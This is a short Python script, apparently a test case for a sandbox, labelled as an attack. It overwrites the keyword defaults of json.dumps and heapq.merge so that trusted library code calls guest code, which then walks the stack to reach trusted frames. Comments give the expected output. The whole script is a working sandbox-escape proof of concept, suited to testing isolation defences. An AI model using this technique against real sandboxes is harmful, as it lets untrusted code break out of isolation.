# attack: poisons the defaults of trusted functions to make them call guest code in trusted frames
# prints: "\"x\""
# prints: [1, 2]
import heapq
import json

def spy(*a, **k):
    try:
        raise KeyError
    except KeyError as e:
        frame = e.__traceback__.tb_frame.f_back
    while frame is not None:
        if frame.f_globals is not globals():
            print("ESCAPED trusted frame", frame.f_globals.get("__name__"))
        frame = frame.f_back
    return "x"

json.dumps.__kwdefaults__["default"] = spy
heapq.merge.__kwdefaults__ = {"key": spy, "reverse": False}
print(json.dumps(object()))
print(list(heapq.merge([1], [2])))
